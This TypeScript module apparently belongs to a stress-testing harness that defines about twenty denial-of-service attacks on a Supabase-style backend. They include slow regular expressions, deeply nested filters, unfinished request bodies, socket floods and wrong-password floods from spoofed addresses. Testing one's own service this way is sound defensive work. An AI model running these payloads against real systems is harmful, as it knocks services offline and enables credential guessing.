// What one hostile visitor can send. Each attack runs until its process ends.
import { knownEmail } from './accounts.ts'
import { leaveUnfinished, leaveUnread } from './attack-by-connections.ts'
import { flood } from './attack-by-requests.ts'
import { joinAgainAndAgain, leaveEchoesUnread } from './attack-by-sockets.ts'
import type { Target } from './target.ts'

export interface Attack {
  name: string
  sends: string
  start(target: Target): void
}

const table = '/rest/v1/website_content'
const json = 'application/json'

const aliases = Array.from({ length: 700 }, (_, i) => `${i}:content_value`).join()
const emptyLines = '\n'.repeat(1_000_000)
const nested = `(${'or('.repeat(3900)}id.eq.1${')'.repeat(3900)})`
/** The back references make PostgreSQL try every way to split a text into four parts. */
const slowExpression = encodeURIComponent('(.*)(.*)(.*)\\1\\2\\3x')
const largeBody = { path: table, bytes: 2 ** 20 - 1 }
const smallBody = { path: table, bytes: 63_000 - 1 }
const refusedItem = JSON.stringify({ content_key: 'abuse', content_value: 'x'.repeat(63_900) })

/** None of these is in a text, so the database has to look for all of them in every text. */
const patterns = Array.from({ length: 10 }, (_, i) => `content_value.ilike.%e%a%o%i%n%t%${i}#%`).join()
const longAnswer = `${table}?select=*&content_key=like.long.*`
/** 10 conditions and 100 values, just below 4,096 characters. */
const longFilter = Array.from({ length: 10 }, (_, i) => {
  const values = Array.from({ length: 10 }, (_, j) => `${i}${j}`.padEnd(38, 'x'))
  return `content_key=in.(${values})`
}).join()

const signIn = (number: number) => ({
  path: '/auth/v1/token?grant_type=password',
  method: 'POST' as const,
  contentType: json,
  body: JSON.stringify({ email: knownEmail(number), password: 'wrong' }),
})

const message = (number: number) => ({
  path: '/contact',
  method: 'POST' as const,
  contentType: 'application/x-www-form-urlencoded',
  body: `name=A&email=a@example.com&subject=${number}&message=${'Hello '.repeat(100)}${number}`,
})

export const attacks: Attack[] = [
  {
    name: 'parentheses',
    sends: 'joins with a filter of 60,000 parentheses, on 4 sockets',
    start: (target) => joinAgainAndAgain(target, 4, `content_key=eq.${'('.repeat(60_000)}`),
  },
  {
    name: 'conditions',
    sends: 'joins with a filter of 9,000 conditions, 100 channels on each of 100 sockets',
    start: (target) => joinAgainAndAgain(target, 100, Array(9000).fill('id=eq.').join()),
  },
  {
    name: 'aliases',
    sends: 'reads of one column under 700 names, on 64 connections that leave the answers unread',
    start: (target) => leaveUnread(target, 64, `${table}?select=${aliases}`),
  },
  {
    name: 'lines',
    sends: 'CSV bodies of a million empty lines, on 16 connections',
    start: (target) =>
      flood(target, 16, () => ({ path: table, method: 'POST', contentType: 'text/csv', body: emptyLines })),
  },
  {
    name: 'nesting',
    sends: 'reads with an `or` 3,900 deep, on 16 connections',
    start: (target) => flood(target, 16, () => ({ path: `${table}?or=${nested}` })),
  },
  {
    name: 'expressions',
    sends: 'reads with a slow regular expression, on 16 connections',
    start: (target) => flood(target, 16, () => ({ path: `${table}?content_value=match.${slowExpression}` })),
  },
  {
    name: 'echoes',
    sends: 'messages with a topic of 63 kB, on 100 sockets that leave the echoes unread',
    start: (target) => leaveEchoesUnread(target, 100, 63_000),
  },
  {
    name: 'bodies-without-key',
    sends: 'bodies of 1 MB without their last byte and without a key, on 500 connections',
    start: (target) => leaveUnfinished(target, 500, largeBody),
  },
  {
    name: 'bodies',
    sends: 'bodies of 1 MB without their last byte, with the publishable key, on 500 connections',
    start: (target) => leaveUnfinished(target, 500, { ...largeBody, key: target.publishableKey }),
  },
  {
    name: 'small-bodies',
    sends: 'bodies of 63 kB without their last byte, with the publishable key, on 500 connections',
    start: (target) => leaveUnfinished(target, 500, { ...smallBody, key: target.publishableKey }),
  },
  {
    name: 'patterns',
    sends: 'reads with 10 `ilike` filters that no text meets, on 64 connections',
    start: (target) => flood(target, 64, () => ({ path: `${table}?or=(${encodeURIComponent(patterns)})` })),
  },
  {
    name: 'largest-answers',
    sends: 'reads with the largest answer, on 64 connections',
    start: (target) => flood(target, 64, () => ({ path: longAnswer })),
  },
  {
    name: 'largest-answers-unread',
    sends: 'the same on 64 connections that leave the answers unread',
    start: (target) => leaveUnread(target, 64, longAnswer),
  },
  {
    name: 'joins',
    sends: 'joins with a filter of 10 conditions, 100 values and 4 kB, on 100 sockets',
    start: (target) => joinAgainAndAgain(target, 100, longFilter),
  },
  {
    name: 'short-echoes',
    sends: 'messages with a topic of 255 characters, on 100 sockets that leave the echoes unread',
    start: (target) => leaveEchoesUnread(target, 100, 255),
  },
  {
    name: 'passwords',
    sends: 'wrong passwords for accounts that exist, on 64 connections',
    start: (target) => flood(target, 64, signIn),
  },
  {
    name: 'passwords-from-50',
    sends: 'the same from 50 addresses',
    start: (target) =>
      flood(target, 64, (number) => ({ ...signIn(number), address: `203.0.113.${1 + (number % 50)}` })),
  },
  {
    name: 'reads',
    sends: 'ordinary reads of the table, on 64 connections',
    start: (target) => flood(target, 64, () => ({ path: `${table}?select=*` })),
  },
  {
    name: 'writes',
    sends: 'items of 64 kB without a session, on 64 connections',
    start: (target) =>
      flood(target, 64, () => ({ path: table, method: 'POST', contentType: json, body: refusedItem })),
  },
  {
    name: 'messages',
    sends: 'messages with the contact form, on 64 connections',
    start: (target) => flood(target, 64, message),
  },
  {
    name: 'messages-from-many',
    sends: 'the same from 60,000 addresses, on 256 connections',
    start: (target) =>
      flood(target, 256, (number) => ({
        ...message(number),
        address: `10.1.${(number >> 8) & 255}.${number & 255}`,
      })),
  },
]
